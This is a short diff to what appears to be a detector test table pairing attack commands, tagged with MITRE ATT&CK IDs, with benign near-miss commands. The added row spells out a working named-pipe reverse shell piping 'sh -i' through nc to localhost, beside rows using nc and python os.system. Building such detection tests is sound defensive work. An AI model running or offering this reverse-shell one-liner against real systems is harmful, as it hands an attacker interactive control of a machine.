@@ -98,6 +98,12 @@ ROWS = [
         near="echo ping | nc -q 1 -w 1 127.0.0.1 @PORT@",
         near_rc=False,
         why="the shell given as an attached option value, after the address vs data piped to a peer"),
+    Row("shell-piped-to-network-tool", "TA0002 T1059.004",
+        # the named-pipe reverse shell: the listener sends "exit" after 2.5 s
+        trigger="rm -f @T@/f@ID@ && mkfifo @T@/f@ID@ && cat @T@/f@ID@ | sh -i 2>&1 | nc -q 1 127.0.0.1 @PORT@ > @T@/f@ID@",
+        near="cat /etc/hostname | nc -q 1 -w 3 127.0.0.1 @PORT@ >/dev/null",
+        cleanup="rm -f @T@/f@ID@",
+        why="an interactive shell's output piped into nc (its input fed back from nc) vs a file sent with nc"),
     Row("python-inline-shell", "TA0002 T1059.006",
         trigger="@PY@ -c 'import os; os.system(\"id >/dev/null\")'",
         near="@PY@ -c 'import sysconfig; print(sysconfig.get_paths()[\"purelib\"])'",
